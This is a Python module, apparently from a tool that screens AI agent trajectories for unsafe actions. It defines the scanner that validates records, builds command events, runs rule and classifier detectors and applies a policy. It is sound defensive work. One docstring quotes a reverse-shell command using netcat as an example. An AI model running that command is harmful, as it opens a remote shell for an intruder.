"""The one code path from a record to a verdict, used in-process, in `datasets.map` and in Ray.

A `Scanner` is built once per worker (rules compiled once) and then called per record or per
batch. It validates the record, extracts segments, derives the decoded views, runs every detector
and lets the policy decide. Runtimes only move records in and verdicts out.
"""
from __future__ import annotations

import time
from dataclasses import dataclass, replace
from typing import Any, Iterable, Protocol, Sequence

from .errors import DetectorError, RecordError, SafeFilterError
from .events.gate import ParseGate
from .events.trajectory import TrajectoryEvents, apply_masks, build_events
from .faults import FailureBudget, is_system_fault
from .normalize import Limits, Trajectory, derive, link_scripts
from .normalize.budget import Budget
from .policy import Policy
from .requested import judge_requested
from .rules.engine import RuleEngine
from .rules.events import EventMatcher
from .rules.model import Rule, RulePack, load_packs
from .schema import read_trajectory
from .types import Finding, Incomplete, Segment, Verdict

__all__ = ["Detector", "EventOptions", "Scanner", "ScanResult", "record_id"]


@dataclass(frozen=True, slots=True)
class EventOptions:
    """The trajectory event stage (safefilter/events/trajectory.py): on by default.

    `seconds_per_record` is the stage's wall-clock box per record; past it the record keeps the
    events built so far and text rules read all of its text (nothing is hidden by a half parse).
    """

    enabled: bool = True
    seconds_per_record: float = 2.0


class Detector(Protocol):
    """Anything that turns prepared trajectories into findings (rules now, a classifier next)."""

    name: str

    def detect_batch(self, items: Sequence["Prepared"]) -> list[list[Finding]]: ...


@dataclass(frozen=True, slots=True)
class Prepared:
    """A trajectory with all its segments, original and derived, ready for detectors.

    `incomplete` says where a limit (decode budget or depth, the record's work budget) cut the
    analysis short; the policy then refuses to call the record clean unless told otherwise.
    `segments` are what text rules read: data spans blanked and data segments left out (see
    `TrajectoryEvents`); `events` is what event rules read (None when the stage is off).
    """

    trajectory: Trajectory
    segments: tuple[Segment, ...]
    incomplete: tuple[Incomplete, ...] = ()
    events: TrajectoryEvents | None = None


class _DetectorFailed(Exception):
    """A detector raised on a batch; carries its name so the record's error can say which."""

    def __init__(self, detector: str, exc: BaseException) -> None:
        super().__init__(f"detector failed on this record: {type(exc).__name__}: {exc} (detector {detector!r})")
        self.detector = detector


def _raise_if_system_fault(stage: str, exc: Exception) -> None:
    """Re-raise a system fault as the one-line DetectorError the CLI prints, with what to do."""
    if not is_system_fault(exc):
        return
    if isinstance(exc, SafeFilterError):
        raise exc
    if isinstance(exc, MemoryError):
        hint = "out of memory; lower batch_size (and classifier.batch_size), or give the run more memory"
    else:
        hint = "the device failed; lower classifier.batch_size, or set classifier.device=cpu"
    raise DetectorError(f"{stage} stopped the run: {type(exc).__name__}: {str(exc)[:300]}; {hint}") from exc


@dataclass(frozen=True, slots=True)
class ScanResult:
    """What a scan produced for one record: a verdict, or the reason it could not be read or scanned.

    `failed_detector` names the detector (or "normalize") that raised on the record: the record was
    readable and the code failed, which the run counts against `limits.max_detector_failure_share`;
    None for a record that could not be read.
    """

    record_id: str
    verdict: Verdict | None = None
    error: str | None = None
    failed_detector: str | None = None


class RuleDetector:
    """Text rules over the record's segments and event rules over its events: one detector, so
    both kinds share requested-ness, the allowlist and the policy."""

    name = "rule"

    def __init__(self, rules: Sequence[Rule]) -> None:
        self.engine = RuleEngine(rules)
        self.events = EventMatcher(rules)

    def ready(self) -> None:
        """A rule detector without rules would pass every record as clean: DetectorError."""
        if not self.engine.rules:
            raise DetectorError("no rules are loaded (rules.packs gives none that are enabled); name `builtin` or "
                                "pack files in rules.packs, or set rules.include_experimental=true if every rule "
                                "is experimental")

    def requested_categories(self, task: str) -> frozenset[str]:
        """Categories the task asks for, by the packs' `requested_when` phrases."""
        return frozenset(self.engine.rules[i].category for i in self.engine.requested_rules(task))

    def detect_batch(self, items: Sequence[Prepared]) -> list[list[Finding]]:
        out = []
        for item in items:
            found = self.engine.match(item.segments, item.trajectory.request)
            if item.events is not None and self.events.rules:
                found.extend(_command_evidence(self.events.match(item.events.events, item.trajectory.request),
                                               item))
            out.append(found)
        return out


#: Longest evidence an event finding quotes from the command that caused it.
EVENT_EVIDENCE_CHARS = 480


def _command_evidence(findings: list[Finding], item: Prepared) -> list[Finding]:
    """Event findings quote the command they came from, as written in the record (the outermost
    process of the same text: `nc -e /bin/sh 10.0.0.5 4444`, not `/bin/sh`), so the allowlist,
    reviewers and the report see the targets and the words of the action. The finding's span
    stays the event's; decoded or flow-derived events keep the matcher's rendering."""
    if not findings or item.events is None:
        return findings
    texts = {(seg.message_index, seg.field): seg for seg in item.trajectory.segments if not seg.decoded_from}
    by_span = {}
    events = item.events.events
    for i, e in enumerate(events):
        by_span.setdefault((e.source.message_index, e.source.field, e.source.start, e.source.end), i)
    out = []
    for f in findings:
        i = by_span.get((f.message_index, f.field, f.start, f.end))
        seg = texts.get((f.message_index, f.field))
        if i is None or seg is None or f.decoded_from:
            out.append(f)
            continue
        root = events[i]
        seen = 0
        while root.parent is not None and 0 <= root.parent < len(events) and seen < 16:
            parent = events[root.parent]
            if parent.source.message_index != f.message_index or parent.source.field != f.field \
                    or parent.source.decoded_from:
                break
            root, seen = parent, seen + 1
        a, z = root.source.start - seg.start, root.source.end - seg.start
        quote = seg.text[max(0, a):max(0, z)] if 0 <= a < z <= len(seg.text) else ""
        if quote.strip():
            out.append(replace(f, evidence=quote[:EVENT_EVIDENCE_CHARS]))
        else:
            out.append(f)
    return out


def record_id(record: Any, source: str, line: int) -> str:
    """The record's own id, or a stable one from its source file (as named in the run) and line."""
    rid = record.get("id") if isinstance(record, dict) else None
    if isinstance(rid, (str, int)) and not isinstance(rid, bool) and str(rid):
        return str(rid)
    return f"{source}:{line}"


class Scanner:
    """Detectors plus policy. Picklable: compiled state is rebuilt in each worker.

    Call `ready()` before the first record: it builds every detector (model loaded, device checked,
    rules present), so a broken system stops with one DetectorError instead of failing each record.
    `failure_budget`, when set (a run sets it from `limits`), is what the run loop counts detector
    failures against.
    """

    def __init__(self, detectors: Sequence[Detector], policy: Policy, *, limits: Limits = Limits(),
                 packs: Sequence[RulePack] = (), failure_budget: FailureBudget | None = None,
                 events: EventOptions = EventOptions()) -> None:
        self.detectors = list(detectors)
        self.policy = policy
        self.limits = limits
        self.packs = list(packs)
        self.failure_budget = failure_budget
        self.events = events
        self._gate: ParseGate | None = None

    def ready(self) -> "Scanner":
        """Build and check every detector now; raises DetectorError (or RuleError) if one cannot work."""
        for detector in self.detectors:
            check = getattr(detector, "ready", None)
            if check is not None:
                check()
        return self

    @classmethod
    def from_rules(cls, pack_paths: Iterable[str] = ("builtin",), *, policy: Policy | None = None,
                   limits: Limits = Limits(), include_experimental: bool = False,
                   events: EventOptions = EventOptions()) -> "Scanner":
        packs = load_packs(list(pack_paths))
        rules = [r for p in packs for r in p.rules
                 if r.status == "stable" or (include_experimental and r.status == "experimental")]
        return cls([RuleDetector(rules)], policy or Policy(), limits=limits, packs=packs, events=events)

    def prepare(self, record: dict[str, Any], rid: str) -> Prepared:
        """Validate and normalize one record; raises RecordError for malformed input."""
        trajectory = read_trajectory(record, rid)
        # One work budget per record, a constant times its size: no record costs more than linear time.
        budget = Budget.for_texts((s.text for s in trajectory.segments), self.limits.work_per_char,
                                  self.limits.work_floor)
        view = self._events(trajectory)
        segments: list[Segment] = []
        linkable: list[Segment] = []  # what link_scripts reads: every write, also those that are data
        for pos, seg in enumerate(trajectory.segments):
            if view is not None and pos in view.masks:
                seg = seg._replace(text=apply_masks(seg.text, view.masks[pos]))
            if view is not None and pos in view.dropped:
                linkable.append(seg)
                continue
            derived = derive(seg, self.limits, budget)
            segments.append(seg)
            segments.extend(derived)
            linkable.append(seg)
            linkable.extend(derived)
        for script in link_scripts(linkable):
            if view is not None and not view.timed_out and script.path and not view.runs(script.path):
                continue  # the data flow, not the text-path linker, says what a trajectory runs
            segments.append(script)
            segments.extend(derive(script, self.limits, budget))
        for written in view.written if view is not None else ():
            segments.append(written)
            segments.extend(derive(written, self.limits, budget))
        return Prepared(trajectory, tuple(segments), tuple(budget.reasons), view)

    def _parse_gate(self) -> ParseGate:
        """The event stage parses what a rule could read (see events/gate.py); built once per worker."""
        if self._gate is None:
            rules = next((d for d in self.detectors if isinstance(d, RuleDetector)), None)
            self._gate = ParseGate(rules.engine.could_fire if rules is not None else None)
        return self._gate

    def _events(self, trajectory: Trajectory) -> TrajectoryEvents | None:
        """The record's events, or None (stage off, or a parser bug: then the text path reads it all)."""
        if not self.events.enabled:
            return None
        try:
            return build_events(trajectory.segments, gate=self._parse_gate(),
                                deadline=time.perf_counter() + self.events.seconds_per_record)
        except Exception as exc:  # noqa: BLE001 - a parser bug must cost this record its events, not the run
            _raise_if_system_fault("events", exc)
            return None

    def scan_records(self, records: Sequence[tuple[dict[str, Any], str]]) -> list[ScanResult]:
        """Scan a batch of (record, id) pairs; a bad record gives an error result, never an exception.

        A system fault (see `faults.is_system_fault`) is not a record's problem: it raises DetectorError.
        """
        prepared: list[Prepared] = []
        slots: list[int] = []
        results: list[ScanResult] = [ScanResult(rid) for _, rid in records]
        for i, (record, rid) in enumerate(records):
            try:
                prepared.append(self.prepare(record, rid))
                slots.append(i)
            except RecordError as exc:
                results[i] = ScanResult(rid, error=str(exc))
            except RecursionError:
                results[i] = ScanResult(rid, error="record is nested too deeply to read")
            except Exception as exc:  # noqa: BLE001 - a normalizer bug on one record: set aside and counted
                _raise_if_system_fault("normalize", exc)
                results[i] = ScanResult(rid, error=f"record could not be normalized: {type(exc).__name__}: {exc}",
                                        failed_detector="normalize")
        if not prepared:
            return results
        per_record: list[list[Finding] | _DetectorFailed]
        try:
            per_record = list(self._detect(prepared))
        except _DetectorFailed:
            # One record broke a detector: scan one by one so only that record is set aside.
            per_record = []
            for item in prepared:
                try:
                    per_record.append(self._detect([item])[0])
                except _DetectorFailed as failed:
                    per_record.append(failed)
        for j, i in enumerate(slots):
            outcome = per_record[j]
            if isinstance(outcome, _DetectorFailed):
                results[i] = ScanResult(results[i].record_id, error=str(outcome), failed_detector=outcome.detector)
            else:
                results[i] = ScanResult(results[i].record_id, verdict=self.policy.decide(
                    outcome, incomplete=prepared[j].incomplete))
        return results

    def _detect(self, prepared: Sequence[Prepared]) -> list[list[Finding]]:
        """Findings per item from every detector; a system fault propagates, any other raise is _DetectorFailed."""
        results: list[list[Finding]] = [[] for _ in prepared]
        for detector in self.detectors:
            try:
                if detector.name == "classifier":
                    found = self._classify(detector, prepared, results)
                else:
                    found = detector.detect_batch(prepared)
            except Exception as exc:  # noqa: BLE001 - sorted: system faults stop the run, the rest are per record
                _raise_if_system_fault(detector.name, exc)
                raise _DetectorFailed(detector.name, exc) from exc
            for j, findings in enumerate(found):
                # requested per action: a request excuses what it names, not the family (before the
                # classifier's gate sees the findings)
                view = prepared[j].events
                results[j].extend(judge_requested(findings, prepared[j].trajectory.request,
                                                  events=view.events if view is not None else ()))
        return results

    def _classify(self, detector: Any, prepared: Sequence[Prepared],
                  so_far: list[list[Finding]]) -> list[list[Finding]]:
        """Run the classifier after the rules: gated on their verdicts, requested-ness from their phrases."""
        skip = None
        if getattr(detector, "gate", "all") == "undecided" and self.policy.combine != "classifier":
            # by position: ids can repeat within a batch, and a flagged twin must not excuse the other
            skip = {j for j, found in enumerate(so_far) if found and self.policy.decide(found).unsafe}
        found = detector.detect_batch(prepared, skip=skip)
        rules = next((d for d in self.detectors if isinstance(d, RuleDetector)), None)
        if rules is None:
            return found
        for j, item in enumerate(prepared):
            if found[j]:
                asked = rules.requested_categories(item.trajectory.request)
                if asked:
                    found[j] = [replace(f, requested=True) if f.category in asked else f for f in found[j]]
        return found

    @property
    def uses_classifier(self) -> bool:
        return any(d.name == "classifier" for d in self.detectors)

    def scan(self, record: dict[str, Any], rid: str | None = None) -> Verdict:
        """Scan one record in-process; raises RecordError when it cannot be read."""
        result = self.scan_records([(record, rid or record_id(record, "<memory>", 0))])[0]
        if result.error is not None:
            raise RecordError(result.error)
        assert result.verdict is not None
        return result.verdict
